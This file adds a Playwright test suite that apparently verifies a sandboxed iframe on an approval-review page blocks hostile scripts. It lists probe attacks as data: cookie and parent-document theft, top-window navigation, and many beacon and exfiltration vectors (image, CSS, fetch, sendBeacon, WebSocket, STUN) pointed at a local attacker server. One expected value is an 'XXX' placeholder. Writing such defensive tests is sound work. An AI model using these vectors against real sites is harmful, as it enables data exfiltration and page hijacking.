@@ -1,0 +1,453 @@
+// What a caller's own document can do in its frame, and opened directly: nothing that anybody else would notice.
+
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { chromium, type BrowserContext, type Frame, type Page } from '@playwright/test';
+import config from '../playwright.config';
+import { expect, test as base } from '../support/test';
+import type { Approval } from '../support/approvals';
+import { form } from '../support/approvals';
+import { Attacker, Careless } from '../support/attacker';
+import { ApprovalReview, hydrated } from '../support/review';
+
+// With a camera and a microphone, so that it is not for want of one that nobody gets at it.
+const FAKE = ['--use-fake-device-for-media-stream'];
+const launch = config.use?.launchOptions;
+base.use({ launchOptions: { ...launch, args: [...(launch?.args ?? []), ...FAKE] } });
+
+const TRUSTED = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'clipboard-write'];
+
+interface Fixtures {
+  /** Nothing may reach it while the test runs, nor afterwards. */
+  attacker: Attacker;
+  /** What the browser did that a page could notice. */
+  noticed: string[];
+}
+
+interface WorkerFixtures {
+  attackers: Attacker[];
+  careless: Careless;
+}
+
+const test = base.extend<Fixtures, WorkerFixtures>({
+  attackers: [
+    async ({}, use) => {
+      const attackers: Attacker[] = [];
+      await use(attackers);
+      // What came too late for its own test.
+      const heard = attackers.flatMap((attacker) => attacker.heard);
+      await Promise.all(attackers.map((attacker) => attacker.stop()));
+      expect(heard).toEqual([]);
+    },
+    { scope: 'worker' },
+  ],
+
+  careless: [
+    async ({}, use) => {
+      const site = await Careless.start();
+      await use(site);
+      await site.stop();
+    },
+    { scope: 'worker' },
+  ],
+
+  attacker: async ({ attackers }, use) => {
+    const attacker = await Attacker.start();
+    attackers.push(attacker);
+    await use(attacker);
+    expect(attacker.heard).toEqual([]);
+  },
+
+  noticed: [
+    async ({ complaints, context }, use) => {
+      // The browser says on the console what it forbids.
+      complaints.allow(/./);
+      const noticed: string[] = [];
+      const watch = (page: Page) => {
+        page.on('dialog', (dialog) => {
+          noticed.push(`a dialog: ${dialog.message()}`);
+          void dialog.dismiss();
+        });
+        page.on('download', (download) => noticed.push(`a download: ${download.suggestedFilename()}`));
+        page.on('popup', (popup) => noticed.push(`a window: ${popup.url()}`));
+      };
+      context.on('page', watch);
+      await use(noticed);
+      expect(noticed).toEqual([]);
+    },
+    { auto: true },
+  ],
+});
+
+/** What a script tries: what it is called, and a body of a function that tells how it ended. */
+type Try = [name: string, script: string];
+
+/** A document with a button for each of these; pressed, it tries and writes down how that ended. */
+function armed(tries: Try[], markup = ''): string {
+  const attacks = tries.map(([name, script]) => `async ${JSON.stringify(name)}() {\n${script}\n}`);
+  return `<output></output>${tries.map(([name]) => `<button>${name}</button>`).join('')}${markup}
+    <script>
+      const attacks = { ${attacks.join(',\n')}\n};
+      for (const button of document.querySelectorAll('button')) {
+        button.onclick = async () => {
+          const output = document.querySelector('output');
+          output.textContent = 'trying';
+          try {
+            output.textContent = 'ended: ' + (await attacks[button.textContent]());
+          } catch (error) {
+            output.textContent = 'ended: ' + error.name;
+          }
+        };
+      }
+    </script>`;
+}
+
+/** A request whose context is shown by this template, above a field and the two buttons. */
+function shown(displayTemplate: string): Approval {
+  return {
+    message: 'Approve the deploy',
+    context: { target: 'prod' },
+    displayTemplate,
+    requestedSchema: form({ note: { type: 'string', title: 'Note', maxLength: 100 } }),
+  };
+}
+
+/** Sees that the page is where it was, that nothing is decided, and that the person can decide. */
+async function unharmed(review: ApprovalReview): Promise<void> {
+  expect(review.page.url()).toBe(review.url);
+  await review.decline();
+  await expect(review.outcome).toContainText(/^\s*Rejected/);
+}
+
+/** What a script tries, each after a person has pressed a button in the frame, and how that ends. */
+const forbidden: Record<string, [...Try, ends: string | RegExp][]> = {
+  'the page around it': [
+    ["the page's document", `return parent.document.title`, 'SecurityError'],
+    ["the top window's document", `return top.document.cookie`, 'SecurityError'],
+    ['the element of the frame', `return frameElement`, 'null'],
+    ["the page's address", `return parent.location.href`, 'SecurityError'],
+    ["the page's functions", `return parent.fetch('/api/standing')`, 'SecurityError'],
+    ["the page's storage", `return parent.localStorage.length`, 'SecurityError'],
+    ['a property of the page', `parent.eval = 1`, 'SecurityError'],
+    ['document.domain', `document.domain = '127.0.0.1'`, 'SecurityError'],
+    ['the referrer', `return '<' + document.referrer + '>'`, '<>'],
+    ['its own name', `return '<' + window.name + '>'`, '<>'],
+    ['its origin', `return origin`, 'null'],
+  ],
+
+  'what the browser keeps': [
+    ['cookies', `return document.cookie`, 'SecurityError'],
+    ['setting a cookie', `document.cookie = 'a=b'`, 'SecurityError'],
+    ['the cookie store', `return cookieStore.getAll()`, 'SecurityError'],
+    ['localStorage', `localStorage.setItem('a', 'b')`, 'SecurityError'],
+    ['sessionStorage', `sessionStorage.setItem('a', 'b')`, 'SecurityError'],
+    ['indexedDB', `indexedDB.open('a')`, 'SecurityError'],
+    ['caches', `await caches.open('a')`, 'SecurityError'],
+    ['files', `await navigator.storage.getDirectory()`, 'SecurityError'],
+    ['locks', `await navigator.locks.request('a', () => 'held')`, 'SecurityError'],
+    ['storage access', `await document.requestStorageAccess()`, 'NotAllowedError'],
+  ],
+
+  'other places for its scripts': [
+    ['a service worker', `await navigator.serviceWorker.register('/icon.svg')`, 'SecurityError'],
+    ['a shared worker', `return new SharedWorker('data:text/javascript,')`, 'SecurityError'],
+    ['a worker from a blob', worker(`URL.createObjectURL(new Blob(['postMessage(1)']))`), 'error'],
+    ['a worker from data', worker(`'data:text/javascript,postMessage(1)'`), 'error'],
+    ['a module from data', `return (await import('data:text/javascript,export default 1')).default`, 'TypeError'],
+    ['a frame from data', inner(`src`, `'data:text/html,' + SCRIPT`), 'nothing'],
+    ['a frame from a blob', inner('src', `URL.createObjectURL(new Blob([SCRIPT], { type: 'text/html' }))`), 'nothing'],
+    ['a frame from this server', inner('src', `'/icon.svg'`), 'nothing'],
+    ['a frame with a source of its own', inner('srcdoc', 'SCRIPT'), 'null SecurityError SecurityError'],
+    [
+      'a frame with an origin',
+      `const frame = document.createElement('iframe');
+      frame.sandbox = 'allow-scripts allow-same-origin allow-top-navigation allow-popups allow-modals';
+      document.body.append(frame);
+      return frame.contentWindow.origin`,
+      'SecurityError',
+    ],
+    ['a portal', `return document.createElement('portal') instanceof HTMLUnknownElement`, 'true'],
+    ['a fenced frame', `return new FencedFrameConfig('https://example.com/')`, /ReferenceError|TypeError/],
+  ],
+
+  'windows and dialogs': [
+    ['alert', `return alert('a')`, 'undefined'],
+    ['confirm', `return confirm('a')`, 'false'],
+    ['prompt', `return prompt('a')`, 'null'],
+    ['print', `return print()`, 'undefined'],
+    ['asking before it goes', `onbeforeunload = () => 'a'; return 'set'`, 'set'],
+    ['a window', `return open('about:blank')`, 'null'],
+    ['a window in place of the page', `return open('/review', '_top')`, /null|SecurityError/],
+    ['fullscreen', `await document.body.requestFullscreen()`, 'TypeError'],
+    ['the pointer', `await document.body.requestPointerLock()`, 'SecurityError'],
+    ['picture in picture', `await documentPictureInPicture.requestWindow()`, 'NotAllowedError'],
+    ['a file', `await showOpenFilePicker()`, 'SecurityError'],
+  ],
+
+  "what takes a person's leave": [
+    ['writing to the clipboard', `await navigator.clipboard.writeText('a')`, 'NotAllowedError'],
+    ['reading the clipboard', `await navigator.clipboard.readText()`, 'NotAllowedError'],
+    ['a notification', `return new Promise((done) => (new Notification('a').onerror = () => done('error')))`, 'error'],
+    [
+      'the position',
+      `return new Promise((done) => navigator.geolocation.getCurrentPosition(done, (error) => done(error.code)))`,
+      '1',
+    ],
+    ['the camera', `await navigator.mediaDevices.getUserMedia({ video: true })`, 'SecurityError'],
+    ['the microphone', `await navigator.mediaDevices.getUserMedia({ audio: true })`, 'SecurityError'],
+    ['the screen', `await navigator.mediaDevices.getDisplayMedia()`, 'NotAllowedError'],
+    ['sharing', `await navigator.share({ text: 'a' })`, /NotAllowedError|TypeError/],
+    ['credentials', `await navigator.credentials.get({ password: true })`, 'NotAllowedError'],
+    ['a payment', `new PaymentRequest([{ supportedMethods: 'https://example.com' }], { })`, 'SecurityError'],
+    ['a USB device', `await navigator.usb.requestDevice({ filters: [] })`, 'SecurityError'],
+    ['a serial port', `await navigator.serial.requestPort()`, 'SecurityError'],
+    ['MIDI', `await navigator.requestMIDIAccess()`, 'SecurityError'],
+    ['a lock on the screen', `await navigator.wakeLock.request()`, 'NotAllowedError'],
+  ],
+
+  'steering the page': [
+    ['the address of the top window', `top.location = 'about:blank'`, 'SecurityError'],
+    ['the address of the page', `parent.location.replace('about:blank')`, 'SecurityError'],
+    ['the fragment of the page', `parent.location.hash = 'a'`, 'SecurityError'],
+    ['a script for the page', `parent.location = 'javascript:document.title=1'`, 'SecurityError'],
+    ['a link to the top window', click(`{ href: '/review', target: '_top' }`), 'clicked'],
+    ['a link to the page', click(`{ href: '/review', target: '_parent' }`), 'clicked'],
+    ['a link to a new window', click(`{ href: '/review', target: '_blank' }`), 'clicked'],
+    ['a download of data', click(`{ href: 'data:text/plain,a', download: 'a.txt' }`), 'clicked'],
+    ['a download of a blob', click(`{ href: URL.createObjectURL(new Blob(['a'])), download: 'a.txt' }`), 'clicked'],
+    ['a form to the top window', submit(`{ action: '/review', target: '_top' }`), 'submitted'],
+    ['a form to a new window', submit(`{ action: '/review', target: '_blank' }`), 'submitted'],
+    ['a form to a script', submit(`{ action: 'javascript:document.body.remove()' }`), 'submitted'],
+    ['a decision by a form', submit(`{ action: '/api/submit', method: 'post' }`), 'submitted'],
+    ['going back', `history.back(); history.go(-2); return 'went'`, 'went'],
+    ['stopping the page', `parent.stop()`, 'SecurityError'],
+    ['closing the page', `top.close(); return 'called'`, 'called'],
+  ],
+};
+
+/** A script that starts a worker and tells what becomes of it. */
+function worker(address: string): string {
+  return `return new Promise((done) => {
+    const worker = new Worker(${address});
+    worker.onmessage = () => done('ran');
+    worker.onerror = () => done('error');
+  })`;
+}
+
+/** A script that puts a frame into the frame, and tells what a script in there tells. */
+function inner(attribute: string, value: string): string {
+  return `const SCRIPT = '<script>const of = (f) => { try { return f() } catch (e) { return e.name } };' +
+      'parent.postMessage([origin, of(() => top.document), of(() => document.cookie)].join(" "), "*")<' + '/script>';
+    const told = new Promise((done) => addEventListener('message', (event) => event.source !== parent && done(event.data)));
+    const frame = document.createElement('iframe');
+    const loaded = new Promise((done) => (frame.onload = done));
+    frame.${attribute} = ${value};
+    document.body.append(frame);
+    await loaded;
+    return Promise.race([told, new Promise((done) => setTimeout(done, 300, 'nothing'))])`;
+}
+
+/** A script that clicks on a link, in the document and outside of it. */
+function click(link: string): string {
+  return `const link = Object.assign(document.createElement('a'), ${link});
+    link.click();
+    addEventListener('click', (event) => event.stopImmediatePropagation(), { capture: true, once: true });
+    document.body.append(link);
+    link.click();
+    return 'clicked'`;
+}
+
+/** A script that submits a form, with and without a button. */
+function submit(form: string): string {
+  return `const form = Object.assign(document.createElement('form'), ${form});
+    document.body.append(form);
+    form.submit();
+    form.append(document.createElement('button'));
+    form.lastChild.click();
+    return 'submitted'`;
+}
+
+for (const [group, cases] of Object.entries(forbidden)) {
+  test(`a frame gets nowhere with ${group}`, async ({ agent, context, page, noticed, server }) => {
+    // Even where the person trusts this site with everything.
+    await context.grantPermissions(TRUSTED, { origin: server.url });
+    const { elicitationId, reviewUrl } = await agent.ask(shown(armed(cases.map(([name, script]) => [name, script]))));
+    await page.goto(server.url); // to have something to go back to
+    const review = await ApprovalReview.open(page, reviewUrl);
+    const sent: string[] = [];
+    page.on('request', (request) => sent.push(request.url()));
+    for (const [name, , ends] of cases) {
+      await review.document.getByRole('button', { name, exact: true }).click();
+      const ended = typeof ends === 'string' ? `ended: ${ends}` : new RegExp(`^ended: (${ends.source})$`);
+      await expect.soft(review.document.locator('output'), name).toHaveText(ended);
+      expect.soft(noticed, name).toEqual([]);
+      expect.soft(page.url(), name).toBe(reviewUrl);
+    }
+    expect(sent.filter((url) => new URL(url).protocol.startsWith('http'))).toEqual([]);
+    expect(await agent.status(elicitationId)).toBe('pending');
+    await unharmed(review);
+  });
+}
+
+/** Markup that asks an attacker for something. */
+const beacons: Record<string, (url: string) => string> = {
+  img: (url) => `<img src="${url}">`,
+  srcset: (url) => `<img srcset="${url} 1x">`,
+  picture: (url) => `<picture><source srcset="${url}"><img alt=""></picture>`,
+  'a picture for a button': (url) => `<input type="image" src="${url}">`,
+  'a background': (url) => `<p style="background: url(${url})">a</p>`,
+  'an image set': (url) => `<p style="background: image-set(url(${url}) 1x)">a</p>`,
+  content: (url) => `<p style="content: url(${url})">a</p>`,
+  'a mask': (url) => `<p style="mask: url(${url}#a)">a</p>`,
+  'a bullet': (url) => `<ul><li style="list-style-image: url(${url})">a</ul>`,
+  import: (url) => `<style>@import url(${url});</style>`,
+  'a font': (url) => `<style>@font-face { font-family: a; src: url(${url}) }</style><p style="font-family: a">a</p>`,
+  stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
+  prefetch: (url) => `<link rel="prefetch" href="${url}">`,
+  preload: (url) => `<link rel="preload" as="image" href="${url}">`,
+  modulepreload: (url) => `<link rel="modulepreload" href="${url}">`,
+  script: (url) => `<script src="${url}"></script>`,
+  'a module': (url) => `<script type="module" src="${url}"></script>`,
+  'an imported module': (url) => `<script type="module">import '${url}';</script>`,
+  video: (url) => `<video src="${url}"></video>`,
+  poster: (url) => `<video poster="${url}"></video>`,
+  audio: (url) => `<audio src="${url}"></audio>`,
+  object: (url) => `<object data="${url}"></object>`,
+  embed: (url) => `<embed src="${url}">`,
+  iframe: (url) => `<iframe src="${url}"></iframe>`,
+  'an iframe in an iframe': (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
+  'a picture in a drawing': (url) => `<svg><image href="${url}"/></svg>`,
+  'a filter in a drawing': (url) =>
+    `<svg><filter id="a"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#a)"/></svg>`,
+  'speculation rules': (url) =>
+    `<script type="speculationrules">
+      { "prefetch": [{ "urls": ["${url}"], "eagerness": "immediate", "referrer_policy": "no-referrer" }] }
+    </script>`,
+};
+
+/** Scripts that ask an attacker for something, and how that ends where they get nowhere. */
+const errands: Record<string, [script: (attacker: Attacker, url: string) => string, ends: string | RegExp]> = {
+  fetch: [(_, url) => `await fetch('${url}', { mode: 'no-cors' })`, 'TypeError'],
+  'a request that outlives its document': [
+    (_, url) => `await fetch('${url}', { mode: 'no-cors', method: 'POST', keepalive: true })`,
+    'TypeError',
+  ],
+  'a request for later': [(_, url) => `fetchLater('${url}', { activateAfter: 0 })`, /NotAllowedError|undefined/],
+  XMLHttpRequest: [
+    (_, url) => `return new Promise((done) => {
+      const request = new XMLHttpRequest();
+      request.open('GET', '${url}');
+      request.onloadend = () => done(request.status);
+      request.send();
+    })`,
+    '0',
+  ],
+  sendBeacon: [(_, url) => `return navigator.sendBeacon('${url}', 'a')`, /true|false/],
+  WebSocket: [
+    ({ host }, url) => `return new Promise((done) => {
+      const socket = new WebSocket('ws://${host}${new URL(url).pathname}');
+      socket.onerror = () => done('error');
+    })`,
+    'error',
+  ],
+  EventSource: [
+    (_, url) => `return new Promise((done) => {
+      const source = new EventSource('${url}');
+      source.onerror = () => (source.close(), done('error'));
+    })`,
+    'error',
+  ],
+  WebTransport: [
+    ({ host }) => `await new WebTransport('https://${host}/').ready`,
+    'WebTransportError',
+  ],
+  'import()': [(_, url) => `await import('${url}')`, 'TypeError'],
+  'a picture': [
+    (_, url) => `return new Promise((done) => {
+      const image = new Image();
+      image.onload = image.onerror = ({ type }) => done(type);
+      image.src = '${url}';
+    })`,
+    'error',
+  ],
+  'a picture in a worker': [
+    (_, url) => `const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${url}', { mode: 'no-cors' })"])));
+      return new Promise((done) => {
+        worker.onerror = () => done('error');
+        setTimeout(done, 300, 'nothing');
+      })`,
+    'error',
+  ],
+  'a peer connection': [
+    ({ host }) => `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] });
+      peer.createDataChannel('a');
+      await peer.setLocalDescription(await peer.createOffer());
+      return new Promise((done) => {
+        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done('complete');
+      })`,
+    'XXX',
+  ],
+  'a ping': [
+    (_, url) => `const link = Object.assign(document.createElement('a'), { href: '#a', ping: '${url}' });
+      document.body.append(link);
+      link.click();
+      return 'clicked'`,
+    'clicked',
+  ],
+  'a form': [
+    (_, url) => `const form = Object.assign(document.createElement('form'), { action: '${url}', target: 'inside' });
+      document.body.append(form, Object.assign(document.createElement('iframe'), { name: 'inside' }));
+      form.submit();
+      return 'submitted'`,
+    'submitted',
+  ],
+  'a link to a new window': [
+    (_, url) => `const link = Object.assign(document.createElement('a'), { href: '${url}', target: '_blank' });
+      link.click();
+      return 'clicked'`,
+    'clicked',
+  ],
+  'a window': [(_, url) => `return String(open('${url}'))`, 'null'],
+};
+
+function beacon(attacker: Attacker): string {
+  const markup = Object.values(beacons).map((markup, at) => `<div class="beacon">${markup(`${attacker.url}/beacon${at}.`)}</div>`);
+  return markup.join('\n');
+}
+
+function errand(attacker: Attacker): Try[] {
+  return Object.entries(errands).map(([name, [script]], at) => [name, script(attacker, `${attacker.url}/errand${at}.`)]);
+}
+
+test('on a careless site every one of these reaches somebody', async ({ browser, careless }) => {
+  const attacker = await Attacker.start();
+  const page = await browser.newPage();
+  await page.goto(careless.serve(armed(errand(attacker), beacon(attacker))));
+  const heard = (word: string) => attacker.heard.some((line) => line.includes(word));
+  for (const [at, name] of Object.keys(beacons).entries()) {
+    await expect.soft.poll(() => heard(`/beacon${at}.`), `${name}, ${at}`).toBe(true);
+  }
+  for (const [at, name] of Object.keys(errands).entries()) {
+    await page.getByRole('button', { name, exact: true }).click();
+    const word = ['WebTransport', 'a peer connection'].includes(name) ? 'a datagram' : `/errand${at}.`;
+    await expect.soft.poll(() => heard(word), name).toBe(true);
+    attacker.heard.length = 0;
+  }
+  await page.close();
+  await attacker.stop();
+});
+
+test('from a frame none of them reaches anybody', async ({ agent, attacker, page, noticed }) => {
+  const { reviewUrl } = await agent.ask(shown(armed(errand(attacker), beacon(attacker))));
+  const review = await ApprovalReview.open(page, reviewUrl);
+  await expect(review.document.locator('.beacon')).toHaveCount(Object.keys(beacons).length);
+  for (const [name, [, ends]] of Object.entries(errands)) {
+    await review.document.getByRole('button', { name, exact: true }).click();
+    const ended = typeof ends === 'string' ? `ended: ${ends}` : new RegExp(`^ended: (${ends.source})$`);
+    await expect.soft(review.document.locator('output'), name).toHaveText(ended);
+    expect.soft(attacker.heard, name).toEqual([]);
+  }
+  expect(noticed).toEqual([]);
+  await unharmed(review);
+});
